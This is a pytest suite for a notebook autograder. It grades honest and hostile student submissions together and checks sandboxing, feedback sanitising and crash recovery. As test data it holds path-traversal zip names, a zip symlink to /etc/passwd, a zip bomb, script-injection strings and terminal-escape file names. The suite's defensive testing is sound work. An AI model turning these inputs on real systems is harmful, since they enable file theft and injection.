"""Grading: hostile submissions beside honest ones, graded in one run, and each must get just what it earns."""

import base64
import builtins
import copy
import csv
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import warnings
import zipfile
import zlib
from contextlib import suppress
from functools import cache
from pathlib import Path

import PIL.Image
import pytest
from axe_playwright_python.sync_playwright import Axe
from bs4 import BeautifulSoup
from needed import for_grading

from optimlib import rules

ROOT = Path(__file__).resolve().parent.parent


with for_grading("GRADING IS NOT TESTED", bubblewrap=True):
    import nbformat

    from grading import (
        check,
        files,
        grade,
        gradebook,
        grades,
        kept,
        masters,
        notebooks,
        release,
        sandbox,
        submissions,
        tasks,
    )

from attacks import MASTER, RIGHT, attacks  # noqa: E402

LIMITS = sandbox.Limits(cell=6, submission=30, memory=800_000_000, files=8_000_000)
HONEST = {
    "honest as the master": ("def double(x): return 2 * np.asarray(x)", 5),
    "honest with lists": (RIGHT, 5),
    "honest with a warning": (
        "def double(x):\n    np.float64(1e308) * 10\n    np.array([1.0]) / 0\n    return x + x",
        5,
    ),
    "honest with a warning of its own": ("import warnings\nwarnings.warn('old')\n" + RIGHT, 5),
    "honest with magics": (
        "%matplotlib inline\n%timeit -n1 -r1 1\nimport matplotlib.pyplot as plt\nplt.plot([1]); plt.savefig('x.png')\n"
        "plt.show()\n" + RIGHT,
        5,
    ),
    "honest and wrong": ("def double(x): return x", 3),
    "=honest with a formula's name": (RIGHT, 5),
}
OUT_OF = 6


def cells(notebook):
    return {cell.metadata.nbgrader.grade_id: cell for cell in notebook.cells if "nbgrader" in cell.metadata}


def hand_in(folder, student, notebook, name="two-tasks.ipynb"):
    file = folder / student / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(notebook if isinstance(notebook, str) else nbformat.writes(notebook), encoding="utf-8")
    return file


@pytest.fixture(scope="session")
def course(tmp_path_factory):
    """A course of one small assignment, handed out."""
    course = tmp_path_factory.mktemp("course")
    (course / "two-tasks.md").write_text(MASTER, encoding="utf-8")
    for name in "nbgrader_config.py", "formgrader.html.j2":
        shutil.copy(ROOT / "assignments" / name, course)
    release.release(course, LIMITS)
    return course


@pytest.fixture(scope="session")
def handed_out(course):
    """A fresh copy of the notebook that students get, at each call."""
    return lambda: gradebook.released(course, "two-tasks")


@pytest.fixture(scope="session")
def solved(handed_out):
    """The same with a right `halve` and the given source as `double`."""

    def solve(source):
        notebook = handed_out()
        cells(notebook)["double"].source = source
        cells(notebook)["halve"].source = "def halve(x): return factor * x"
        return notebook

    return solve


def not_a_notebook(folder, solved):
    """What cannot be graded, by student: the reason that its row must give."""
    whole = nbformat.writes(solved(RIGHT))
    hand_in(folder, "not JSON", whole[:-20])
    hand_in(folder, "empty", "")
    hand_in(folder, "a list", "[1, 2]")
    hand_in(folder, "nested", "[" * 100_000)
    hand_in(folder, "format 3", json.dumps({"nbformat": 3, "worksheets": []}))
    hand_in(folder, "odd cells", json.dumps({"cells": [{"cell_type": "code", "source": [1]}]}))
    hand_in(folder, "odd bytes", "").write_bytes(b"\xff\xfe{\x00")
    hand_in(folder, "50 MB", whole.rstrip() + " " * 50_000_000)
    hand_in(folder, "other name", '{"cells": []}', "homework.ipynb")
    hand_in(folder, "no notebook", "words", "essay.txt")
    (folder / "nothing").mkdir()
    (folder / "link").mkdir()
    (folder / "link" / "two-tasks.ipynb").symlink_to(folder / "honest with lists" / "two-tasks.ipynb")
    (folder / "linked folder").symlink_to(folder / "honest with lists")
    (folder / "pipe").mkdir()
    os.mkfifo(folder / "pipe" / "two-tasks.ipynb")
    hand_in(folder, "evil\x1b[31m\nname", whole)
    hand_in(folder, os.fsdecode(b"evil \xff"), whole)
    return {
        "not JSON": "JSON",
        "empty": "empty",
        "a list": "no list of cells",
        "nested": "JSON",
        "format 3": "format 4",
        "odd cells": "no text",
        "odd bytes": "JSON",
        "50 MB": "larger than 10 MB",
        "other name": "homework.ipynb",
        "no notebook": "essay.txt",
        "nothing": "nothing",
        "link": "link",
        "linked folder": "link",
        "pipe": "ordinary file",
        r"evil\x1b[31m\nname": "letters",
        r"evil \udcff": "letters",
    }


def changed_notebooks(folder, solved, handed_out):
    """Whole notebooks that were changed: the points that each must get, of 5."""
    wrong = "def double(x): return x"
    empty_check = cells(solved(wrong))["double-check"]
    scores = {}

    def put(student, notebook, points):
        hand_in(folder, student, notebook)
        scores[student] = points

    put("untouched", handed_out(), 0)
    hand_in(folder, "another file's name", solved(RIGHT), "abgabe.ipynb")
    scores["another file's name"] = 5
    for points, source in ((5, RIGHT), (3, wrong)):
        deleted = solved(source)
        deleted.cells = [
            cell for cell in deleted.cells if "-check" not in cell.metadata.get("nbgrader", {}).get("grade_id", "")
        ]
        put(f"checks deleted, {points}", deleted, points)
        edited = solved(source)
        for name in "double-check", "halve-check", "double-try":
            cells(edited)[name].source = "reveal('twice an array', lambda: [34.5, 8643.0])"
            cells(edited)[name].metadata.nbgrader.points = 1000
        put(f"checks edited, {points}", edited, points)
        reordered = solved(source)
        reordered.cells.sort(key=lambda cell: "check" not in cell.metadata.get("nbgrader", {}).get("grade_id", ""))
        put(f"checks reordered, {points}", reordered, points)
        given = solved(source)
        cells(given)["setup"].source = "raise SystemExit"
        given.cells = [cell for cell in given.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != "factor"]
        put(f"given cells edited and deleted, {points}", given, points)
        other = solved(source)
        other.metadata.kernelspec = {"name": "no-such-kernel", "display_name": "<b>", "language": "R"}
        put(f"wrong kernel, {points}", other, points)
    disguised = solved(wrong)
    disguised.cells += [nbformat.v4.new_code_cell("double = lambda x: x", metadata=empty_check.metadata)]
    cells(disguised)["halve"].metadata.nbgrader.grade_id = "halve-check"
    put("a solution that says it is a check", disguised, 0)
    return scores


@pytest.fixture(scope="session")
def lot(course, solved, handed_out, tmp_path_factory):
    """Everything handed in together, and graded in one run."""
    folder = tmp_path_factory.mktemp("submitted")
    with socket.create_server(("127.0.0.1", 0)) as server:
        attackers = attacks(course, folder, server.getsockname()[1])
        for student, (source, _) in {**HONEST, **attackers}.items():
            notebook = solved(source)
            if student == "honest with lists":
                cells(notebook)[
                    "why"
                ].source = "Because.\n<script>alert(1)</script> ![](https://example.org/x.png) a < b"
                cells(notebook)["halve"].outputs = [
                    nbformat.v4.new_output("display_data", {"text/html": "<script>out()</script>"})
                ]
            hand_in(folder, student, notebook)
        scores = {student: points for student, (_, points) in {**HONEST, **attackers}.items()}
        scores |= changed_notebooks(folder, solved, handed_out)
        refused = not_a_notebook(folder, solved)
        said = []
        rows = grade.grade(course, folder, LIMITS, say=said.append)
        server.setblocking(False)
        with pytest.raises(BlockingIOError):  # nobody came by
            server.accept()
    return {"folder": folder, "scores": scores, "refused": refused, "rows": rows, "said": said}


# What each one gets


def test_every_attack_gets_what_it_earns_and_no_honest_student_less(lot):
    got = {row["student"]: row["auto points"] for row in lot["rows"] if row["flag"] != "not graded"}
    wanted = {
        student.replace("=", "'=") if student[0] == "=" else student: f"{points}"
        for student, points in lot["scores"].items()
    }
    assert {student: got.get(student) for student in wanted} == wanted
    assert got.keys() == wanted.keys()


def test_what_cannot_be_graded_has_a_row_and_a_reason(lot):
    rows = {row["student"]: row for row in lot["rows"] if row["flag"] == "not graded"}
    assert rows.keys() == lot["refused"].keys()
    for student, reason in lot["refused"].items():
        assert reason in rows[student]["reason"] and rows[student]["total"] == "0"


def test_one_line_of_progress_for_each(lot):
    described, *lines = lot["said"]
    assert described.startswith("a folder for each student: ") and "3 without: " in described
    assert len(lines) == len(lot["rows"]) == len(lot["scores"]) + len(lot["refused"])
    assert all(line.isprintable() for line in lot["said"])


def test_what_is_wrong_is_told_in_words(lot, course):
    def told(student):
        page = BeautifulSoup(
            (course / "feedback" / student / "two-tasks" / "two-tasks.html").read_text(encoding="utf-8"), "html.parser"
        )
        return " ".join(page.main.get_text(" ").split())

    assert "what it returns is not right" in told("honest and wrong")
    assert "3 of 6 points" in told("honest and wrong") and "Task 2. Half of it All right: 3 of 3" in told(
        "honest and wrong"
    )
    assert "it computed for more than 6 seconds" in told("infinite loop")
    assert "it computed for more than 6 seconds" in told("infinite loop in the function")
    assert "it ended the process" in told("os._exit")
    assert "SyntaxError" in told("syntax error") and "MemoryError" in told("3 GB array")
    assert "what it returns is not right" in told("SystemExit in the function")
    assert "more than any task asks for" in told("100 MB into the pipe")
    assert "too many files" in told("files without end") and "No space left" in told("a full disk")
    assert "not permitted" in told("fork bomb") and "start new thread" in told("thread bomb")
    assert "not permitted" in told("memory without a process") and "maximum limit" in told("limits raised")
    assert "1 answer is still to be marked" in told("honest with lists")
    assert "Nothing was written here" in told("untouched")
    assert "This could not be graded: the file is empty" in told("empty")


def test_feedback_shows_no_check_no_value_and_no_output(lot, course):
    pages = list((course / "feedback").rglob("*.html"))
    assert len(pages) > 60
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for secret in (
            "the_secret",
            "17.25",
            "34.5",
            "8643",
            "4321",
            "7.75",
            "3.875",
            "reveal",
            "lambda",
            "the-solution",
            "model answer",
            "out()",
            "HIDDEN",
        ):
            assert secret not in text, (page, secret)
        assert "<script" not in text and "\x1b" not in text and "\u202e" not in text
        assert not BeautifulSoup(text, "html.parser").find_all(["script", "img", "link", "iframe"])
    assert "&lt;script&gt;" in (
        course / "feedback" / "an error full of HTML" / "two-tasks" / "two-tasks.html"
    ).read_text(encoding="utf-8")


def test_the_mark_scheme_stands_before_the_answer_for_the_marker_alone(lot, course):
    notebook = nbformat.read(
        course / "autograded" / "honest with lists" / "two-tasks" / "two-tasks.ipynb", as_version=4
    )
    ids = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    scheme = notebook.cells[ids.index("why") - 1].source
    assert "For the marker" in scheme and "model answer" in scheme and "SOLUTION" not in scheme
    assert "For the marker" not in nbformat.writes(gradebook.released(course, "two-tasks"))


def test_nothing_is_written_where_names_lead(lot, course):
    assert {path.name for path in course.iterdir()} == {
        "two-tasks.md",
        "nbgrader_config.py",
        "formgrader.html.j2",
        "gradebook.db",
        "source",
        "release",
        "graded",
        "autograded",
        "feedback",
        "grades.csv",
        "grades-long.csv",
        "statistics.html",
    }


# grades.csv


def test_grades_are_a_table_that_a_gradebook_imports(lot, course):
    with open(course / "grades-long.csv", newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert rows == lot["rows"] and tuple(rows[0]) == grades.COLUMNS
    for row in rows:
        assert float(row["total"]) == float(row["auto points"]) + float(row["hand-marked points"]) - float(
            row["penalty"]
        )
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
        assert row["out of"] == f"{OUT_OF}" or row["flag"] == "not graded"


# Stopping, and going on


def test_a_second_run_runs_nothing_and_gives_the_same(lot, course, monkeypatch):
    monkeypatch.setattr(check, "run", None)
    monkeypatch.setattr(grade, "Place", None)
    assert grade.grade(course, lot["folder"], LIMITS, say=lambda _: None) == lot["rows"]


def test_stopped_and_started_again(course, solved, tmp_path):
    """Ctrl-C, as a terminal sends it: to the whole group of processes. What was graded is not run again."""
    here = tmp_path / "course"
    shutil.copytree(course, here, ignore=shutil.ignore_patterns("graded", "autograded", "feedback", "grades.csv"))
    folder = tmp_path / "submitted"
    for i in range(5):
        hand_in(folder, f"student {i}", solved("import time\ntime.sleep(0.5)\n" + RIGHT))
    program = (
        "from pathlib import Path; from grading import __main__, masters;"
        f"masters.COURSE = Path({str(here)!r}); __main__.main([{str(folder)!r}])"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", program],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
        encoding="utf-8",
    )
    described, first = process.stdout.readline(), process.stdout.readline()
    os.killpg(process.pid, signal.SIGINT)
    out, err = process.communicate(timeout=30)
    assert process.returncode == 130 and "goes on from here" in err and "Traceback" not in err
    kept = {file: file.stat().st_mtime_ns for file in (here / "graded").glob("*/*.json")}
    assert described == "a folder for each student: 5 students, 5 notebooks of two-tasks\n"
    assert first.startswith("1/5  student") and 1 <= len(kept) < 5
    end = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, encoding="utf-8")
    assert end.returncode == 0 and "5 rows" in end.stdout
    assert len(list((here / "graded").glob("*/*.json"))) == 5
    assert all(file.stat().st_mtime_ns == when for file, when in kept.items())
    assert [row["two-tasks"] for row in csv.DictReader(open(here / "grades.csv", encoding="utf-8-sig"))] == ["5"] * 5


@pytest.fixture
def other_course(course, tmp_path):
    """A copy of the course in which nothing was graded."""
    here = tmp_path / "course"
    shutil.copytree(course, here, ignore=shutil.ignore_patterns("graded", "autograded", "feedback", "grades*.csv"))
    (here / "gradebook.db").unlink()
    release.release(here, LIMITS)
    return here


def marked(course, student, points):
    """Mark an answer as formgrader does."""
    directory = gradebook.CourseDirectory(config=gradebook.configuration(course))
    with gradebook.Gradebook(directory.db_url, directory.course_id) as book:
        mark = book.find_grade("why", "two-tasks", "two-tasks", student)
        mark.manual_score, mark.needs_manual_grade = points, False
        book.db.commit()


DAMAGES = {
    "result, empty": ("graded/anna/two-tasks.json", b"", None),
    "result, cut short": ("graded/anna/two-tasks.json", b'{"student": "anna", "id": "an', None),
    "result of another": ("graded/anna/two-tasks.json", b'{"student": "bert"}', None),
    "notebook, cut short": ("autograded/anna/two-tasks/two-tasks.ipynb", b'{"cells": [{"cell_t', "was damaged"),
    "notebook, no cells": ("autograded/anna/two-tasks/two-tasks.ipynb", b"{}", "was damaged"),
    "gradebook, deleted": ("gradebook.db", None, "again as the last"),
    "gradebook, empty": ("gradebook.db", b"", "was damaged"),
    "gradebook, cut short": ("gradebook.db", 5000, "was damaged"),
    "grades, deleted": ("grades.csv", None, None),
    "feedback, empty": ("feedback/anna/two-tasks/two-tasks.html", b"", None),
}


def test_what_is_damaged_is_made_again(other_course, solved, tmp_path):
    for student in "anna", "bert":
        notebook = solved(RIGHT)
        cells(notebook)["why"].source = "Because."
        hand_in(tmp_path / "in", student, notebook)
    grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    marked(other_course, "anna", 0.5)
    rows = grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert [(row["total"], row["flag"]) for row in rows] == [("5.5", ""), ("5", "needs marking")]
    table = (other_course / "grades.csv").read_bytes()
    for name, (path, left, words) in DAMAGES.items():
        file, said = other_course / path, []
        data = file.read_bytes()
        file.unlink()
        if left is not None:
            file.write_bytes(data[:left] if isinstance(left, int) else left)
        again = grade.grade(other_course, tmp_path / "in", LIMITS, say=said.append)
        totals = [row["total"] for row in again]
        assert totals == ["5.5", "5"], name  # marks, too
        assert words is None or words in "\n".join(said), name
        assert file.stat().st_size > 100, name
        if again == rows:
            assert (other_course / "grades.csv").read_bytes() == table
    assert len(list(other_course.glob("gradebook.db.damaged-*"))) >= 1


def test_two_at_once_and_what_a_killed_run_left(other_course, solved, tmp_path):
    hand_in(tmp_path / "in", "anna", solved(RIGHT))
    left = [
        other_course / place
        for place in (
            "graded/.room/grading-x/y",
            "graded/anna/.unfinished-1",
            "autograded/.unfinished-2",
            ".unfinished-3",
        )
    ]
    for file in left:
        file.parent.mkdir(parents=True, exist_ok=True)
        file.touch()
    with kept.run_of(other_course):
        with pytest.raises(kept.Busy, match="Another `make grade` is at work"):
            grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert not any(file.exists() for file in left)
    assert len(grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)) == 1
    assert not list((other_course / "graded").glob(".room*"))


def test_a_write_that_fails_leaves_what_was_there(tmp_path, monkeypatch):
    file = tmp_path / "a" / "b.json"
    kept.put(file, "before")
    with monkeypatch.context() as during:
        during.setattr(os, "fsync", lambda _: (_ for _ in ()).throw(OSError(28, "No space left on device")))
        with pytest.raises(OSError, match="No space"):
            kept.put(file, "after")
    assert file.read_text(encoding="utf-8") == "before" and list(file.parent.iterdir()) == [file]


@pytest.mark.parametrize("after", [0.05, 0.3, 0.8])
def test_ctrl_c_while_it_starts_ends_in_one_line(after, tmp_path):
    program = "from grading import __main__ as m; print('on', flush=True); m.main([sys.argv[1]])"
    process = subprocess.Popen(
        [sys.executable, "-c", "import sys; " + program, str(tmp_path)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
        start_new_session=True,
    )
    process.stdout.readline()
    time.sleep(after)
    os.killpg(process.pid, signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130 and err.strip().startswith("Stopped.") and err.strip().count("\n") == 0


def test_a_name_that_the_terminal_cannot_show_stops_nothing():
    program = "from grading import __main__ as m, grade; grade.main = lambda _: print('김하나'); m.main([])"
    end = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, capture_output=True, env={**os.environ, "PYTHONIOENCODING": "ascii"}
    )
    assert end.returncode == 0 and end.stdout.strip() == rb"\uae40\ud558\ub098"


def as_the_first_edition_left_it(course, student, answer):
    """What it kept of a submission, and how it showed an answer."""
    file = course / "graded" / student / "two-tasks.json"
    result = json.loads(file.read_text(encoding="utf-8"))
    names = ("student", "id", "assignment", "key", "reason", "note", "of", "tasks", "sources")
    tasks = [
        {name: task[name] for name in ("id", "solution", "title", "of", "points", "written", "to_mark")}
        for task in result["tasks"]
    ]
    file.write_text(
        json.dumps({name: result[name] for name in names} | {"key": "of then", "tasks": tasks}), encoding="utf-8"
    )
    file = course / "autograded" / student / "two-tasks" / "two-tasks.ipynb"
    notebook = nbformat.read(file, as_version=4)
    cells(notebook)["why"].source = answer.replace("<b", "&lt;b").replace("![", "[")
    nbformat.write(notebook, file)


def test_a_course_that_the_first_edition_began_keeps_its_marks(other_course, solved, tmp_path):
    answer = "Because 1 < 2 & $a<b$,  \n  ![as](here) *shown*."
    for student, source in ("bert", "def double(x): return x"), ("anna", RIGHT):
        notebook = solved(source)
        cells(notebook)["why"].source = answer
        hand_in(tmp_path / "in", student, notebook)
    grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    for student in "anna", "bert":
        marked(other_course, student, 0.5)
        as_the_first_edition_left_it(other_course, student, answer)
    (page := other_course / "feedback" / "bert" / "two-tasks" / "two-tasks.html").write_text(
        "of then", encoding="utf-8"
    )
    shutil.rmtree(tmp_path / "in" / "bert")  # of this one, nothing comes in again
    rows = grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert [(row["student"], row["total"], row["flag"]) for row in rows] == [("anna", "5.5", ""), ("bert", "3.5", "")]
    assert page.read_text(encoding="utf-8") == "of then"

    cells(notebook)["why"].source = answer.replace("2", "3")
    hand_in(tmp_path / "in", "anna", notebook)
    rows = grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert [(row["total"], row["flag"]) for row in rows] == [("5.5", "needs marking"), ("3.5", "")]

    file = other_course / "graded" / "bert" / "two-tasks.json"
    kept.put(
        other_course / "graded" / "canvas_13" / "two-tasks.json",
        file.read_text(encoding="utf-8").replace('"bert"', '"canvas_13"', 1).replace('"bert"', '"13"'),
    )
    rows = grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert [row["student"] for row in rows] == ["anna", "bert", "canvas_13"]  # as Canvas's students are called still
    kept.put(
        other_course / "graded" / "bert_12" / "two-tasks.json",
        file.read_text(encoding="utf-8").replace('"bert"', '"bert_12"', 1).replace('"bert"', '"Participant 12"'),
    )
    with pytest.raises(masters.Broken, match="bert_12 from the first edition.*make new-term"):
        grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)


def test_one_that_the_gradebook_cannot_take_stops_nobody(other_course, solved, tmp_path, monkeypatch):
    for student in "anna", "bert", "cem":
        hand_in(tmp_path / "in", student, solved(RIGHT))
    score, page = gradebook._score, grade.feedback.page
    monkeypatch.setattr(
        gradebook, "_score", lambda book, result, *_: 1 / 0 if result["student"] == "anna" else score(book, result, *_)
    )
    monkeypatch.setattr(
        grade.feedback, "page", lambda result, *more: 1 / 0 if result["student"] == "bert" else page(result, *more)
    )
    rows = grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)
    assert [(row["student"], row["flag"]) for row in rows] == [
        ("anna", "not graded"),
        ("bert", "not graded"),
        ("cem", ""),
    ]
    assert "gradebook cannot take it" in rows[0]["reason"] and "feedback cannot be written" in rows[1]["reason"]


def test_a_changed_submission_is_graded_again(course, solved, tmp_path):
    folder = tmp_path / "submitted"
    for source, points in (("def double(x): return x", "3"), (RIGHT, "5")):
        hand_in(folder, "changes her mind", solved(source))
        rows = grade.grade(course, folder, LIMITS, say=lambda _: None)
        assert [row["auto points"] for row in rows if row["student"] == "changes her mind"] == [points]


def test_a_failure_of_ours_costs_no_row_and_is_tried_again(course, solved, tmp_path, monkeypatch):
    hand_in(tmp_path, "unlucky", solved(RIGHT))
    for fails in (True, False):
        with monkeypatch.context() as during:
            if fails:
                during.setattr(check, "run", lambda *_: 1 / 0)
            rows = grade.grade(course, tmp_path, LIMITS, say=lambda _: None)
        row = next(row for row in rows if row["student"] == "unlucky")
        assert row["flag"] == ("not graded" if fails else "") and ("ZeroDivisionError" in row["reason"]) == fails


# What came in


def zipped(file, *members):
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w") as archive:
        warnings.simplefilter("ignore")  # the same name twice
        for name, data in members:
            archive.writestr(name, data)
    return file


@pytest.mark.parametrize(
    "name, why",
    [
        ("../evil/two-tasks.ipynb", "leads out"),
        ("anna/../../two-tasks.ipynb", "leads out"),
        ("/etc/two-tasks.ipynb", "leads out"),
        ("anna\\..\\two-tasks.ipynb", "leads out"),
        ("two-tasks.ipynb", "no student's folder"),
        ("x" * 200 + "/two-tasks.ipynb", "too long"),
        (".hidden/two-tasks.ipynb", "cannot be shown"),
    ],
)
def test_a_zip_with_names_that_lead_elsewhere(course, tmp_path, name, why):
    before = sorted(tmp_path.parent.iterdir())
    rows = grade.grade(course, zipped(tmp_path / "all.zip", (name, "{}")), LIMITS, say=lambda _: None)
    (row,) = [row for row in rows if why in row["reason"]]
    assert row["flag"] == "not graded" and sorted(tmp_path.parent.iterdir()) == before


def test_a_zip_with_a_link_a_bomb_a_lock_and_damage(tmp_path):
    link = zipfile.ZipInfo("link/two-tasks.ipynb")
    link.external_attr = 0o120777 << 16
    file = tmp_path / "all.zip"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("bomb/two-tasks.ipynb", b"0" * 200_000_000)
        archive.writestr("damaged/two-tasks.ipynb", "damaged " * 10, zipfile.ZIP_STORED)
        archive.writestr("locked/two-tasks.ipynb", "{}")
        archive.writestr("good/two-tasks.ipynb", '{"cells": []}')
    data = bytearray(file.read_bytes().replace(b"damaged damaged", b"damaged d*maged"))
    locked = data.rindex(b"locked/two-tasks.ipynb")
    data[locked - 46 + 8] |= 1  # "encrypted", in the directory of the zip
    file.write_bytes(data)
    reasons = {}
    for each in submissions.collect(file, {"two-tasks": ()}).submissions:
        try:
            reasons[each.student] = notebooks.cells(each.read())
        except files.Refused as refused:
            reasons[each.student] = str(refused)
    assert reasons.pop("good") == []
    assert "link" in reasons.pop("link") and "larger" in reasons.pop("bomb")
    assert set(reasons) == {"damaged", "locked"} and all("damaged" in reason for reason in reasons.values())


# By hand


def test_marks_go_into_the_gradebook_and_come_back(course, solved, tmp_path):
    def graded():
        rows = grade.grade(course, tmp_path, LIMITS, say=lambda _: None)
        return next(row for row in rows if row["student"] == "writer")

    def written(text):
        notebook = solved(RIGHT)
        cells(notebook)["why"].source = text
        hand_in(tmp_path, "writer", notebook)

    def open_gradebook():
        directory = gradebook.CourseDirectory(config=gradebook.configuration(course))
        return gradebook.Gradebook(directory.db_url, directory.course_id)

    written("Because.")
    assert (graded()["total"], graded()["flag"]) == ("5", "needs marking")
    with open_gradebook() as book:
        assert book.find_grade("double-check", "two-tasks", "two-tasks", "writer").auto_score == 2
        mark = book.find_grade("why", "two-tasks", "two-tasks", "writer")
        assert mark.needs_manual_grade
        mark.manual_score, mark.needs_manual_grade = 0.5, False  # as formgrader does
        book.find_comment("why", "two-tasks", "two-tasks", "writer").manual_comment = "<b>Half</b> of it"
        book.db.commit()
    row = graded()
    assert (row["auto points"], row["hand-marked points"], row["total"], row["flag"]) == ("5", "0.5", "5.5", "")
    page = (course / "feedback" / "writer" / "two-tasks" / "two-tasks.html").read_text(encoding="utf-8")
    assert "&lt;b&gt;Half&lt;/b&gt; of it" in page and "5.5 of 6 points" in page

    written("Because of something else.")
    assert (graded()["total"], graded()["flag"]) == ("5.5", "needs marking")


def in_formgrader(course, notebook):
    """A notebook as formgrader's own exporter renders it, with our settings."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    config = gradebook.configuration(course)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    names = "assignment_id notebook_id submission_id base_url student last_name first_name notebook_path".split()
    resources = {**dict.fromkeys(names, "x"), "index": 0, "total": 1}
    assert config.HTMLExporter.sanitize_html
    return HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)[0]


def test_formgrader_finds_notebooks_without_outputs_or_html(lot, course):
    """And they are harmless even without our settings."""
    from nbconvert.exporters import HTMLExporter

    file = course / "autograded" / "honest with lists" / "two-tasks" / "two-tasks.ipynb"
    notebook = nbformat.read(file, as_version=4)
    nbformat.validate(notebook)
    assert not any(cell.get("outputs") for cell in notebook.cells)
    assert cells(notebook)["halve"].source == "def halve(x): return factor * x"
    bare, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
    for html in (in_formgrader(course, notebook), bare):
        page = BeautifulSoup(html, "html.parser")
        assert "Because." in page.get_text() and "<script>alert(1)</script>" in page.get_text()
        assert not any("alert" in script.get_text() for script in page.find_all("script"))
        assert not page.select("img[src^=http]")


# No answer is overlooked


def picture(kind="PNG", size=(3, 2)):
    data = io.BytesIO()
    PIL.Image.new("RGB", size, "red").save(data, kind)
    return data.getvalue()


def in_base64(data):
    return base64.b64encode(data).decode()


def own(source, type="markdown", **more):
    return getattr(nbformat.v4, f"new_{type}_cell")(source, **more)


def attached(kind, data):
    return {"attachments": {"image.png": {kind: in_base64(data)}}}


BECAUSE = "Because of $\\alpha$."
# How an answer to the question comes in otherwise than in its place; and what of it the marker must see.
OVERLOOKED = {
    "a new cell behind it": ([own(BECAUSE)], [BECAUSE]),
    "a raw cell": ([own(BECAUSE, "raw")], [BECAUSE]),
    "two cells": ([own(BECAUSE), own("And $x$.")], [BECAUSE, "And $x$."]),
    "words in a cell of code": ([own("Because I say so", "code")], ["Because I say so"]),
    "a picture": ([own("", **attached("image/png", picture()))], []),
    "a photograph": ([own("![](attachment:image.png)", **attached("image/jpeg", picture("JPEG")))], []),
    "a picture in the text, as Colab has it": ([own(f"![x](data:image/png;base64,{in_base64(picture())})")], ["![x]("]),
    "a picture in HTML": ([own(f'<img src="data:image/png;base64,{in_base64(picture())}">')], ["<img src="]),
}


def why_of(notebook):
    return cells(notebook)["why"]


def changed(notebook, kind):
    """The same in the cell of the question itself."""
    cell = why_of(notebook)
    if kind == "no metadata":
        cell.metadata, cell.source = {}, BECAUSE
    elif kind == "another kind of cell":
        notebook.cells[notebook.cells.index(cell)] = own(BECAUSE, "raw", metadata=cell.metadata)
    elif kind == "twice":
        notebook.cells.append(own(BECAUSE, metadata=cell.metadata))
    elif kind == "in two":
        cell.source = "First."
        notebook.cells.append(own("Then.", metadata=cell.metadata))
    elif kind == "a picture, and no word":
        cell.attachments = attached("image/png", picture())["attachments"]
    elif kind == "the whole notebook without metadata":
        cell.source = BECAUSE
        for each in notebook.cells:
            each.metadata.pop("nbgrader", None)
    elif kind == "in the text of the task":
        next(each for each in notebook.cells if each.source.startswith("## Task 3")).source += f"\n\n{BECAUSE}"
    return notebook


CHANGED = {
    "no metadata": [BECAUSE],
    "another kind of cell": [BECAUSE],
    "twice": [BECAUSE],
    "in two": ["First.", "Then."],
    "a picture, and no word": [],
    "the whole notebook without metadata": [BECAUSE],
    "in the text of the task": [BECAUSE],
}


@pytest.fixture(scope="session")
def overlooked(course, solved, tmp_path_factory):
    """The rows, by the kind, of all of them."""
    folder = tmp_path_factory.mktemp("overlooked")
    for kind, (added, _) in OVERLOOKED.items():
        notebook = solved(RIGHT)
        notebook.cells += copy.deepcopy(added)
        hand_in(folder, kind, notebook)
    for kind in CHANGED:
        hand_in(folder, kind, changed(solved(RIGHT), kind))
    hand_in(folder, "none of it", solved(RIGHT))
    kinds = {*OVERLOOKED, *CHANGED, "none of it"}
    rows = grade.grade(course, folder, LIMITS, say=lambda _: None)
    return {row["student"]: row for row in rows if row["student"] in kinds}


@pytest.mark.parametrize("kind", [*OVERLOOKED, *CHANGED])
def test_an_answer_in_another_place_is_flagged_and_shown(course, overlooked, kind):
    row = overlooked[kind]
    in_place = kind in ("another kind of cell", "twice", "in two")
    assert row["flag"] == "needs marking" + ("" if in_place else ", answer elsewhere")
    assert row["auto points"] == "5"
    page = BeautifulSoup(
        in_formgrader(course, nbformat.read(course / "autograded" / kind / "two-tasks" / "two-tasks.ipynb", 4)),
        "html.parser",
    )
    wanted = OVERLOOKED[kind][1] if kind in OVERLOOKED else CHANGED[kind]
    for words in wanted:
        assert " ".join(words.split()) in " ".join(page.get_text().split())
    pictures = page.select("img")
    assert len(pictures) == ("pic" in kind or "photo" in kind)
    for each in pictures:
        start, _, data = each["src"].partition(";base64,")
        assert start in ("data:image/png", "data:image/jpeg")
        PIL.Image.open(io.BytesIO(base64.b64decode(data))).load()
    told = (course / "feedback" / kind / "two-tasks" / "two-tasks.html").read_text(encoding="utf-8")
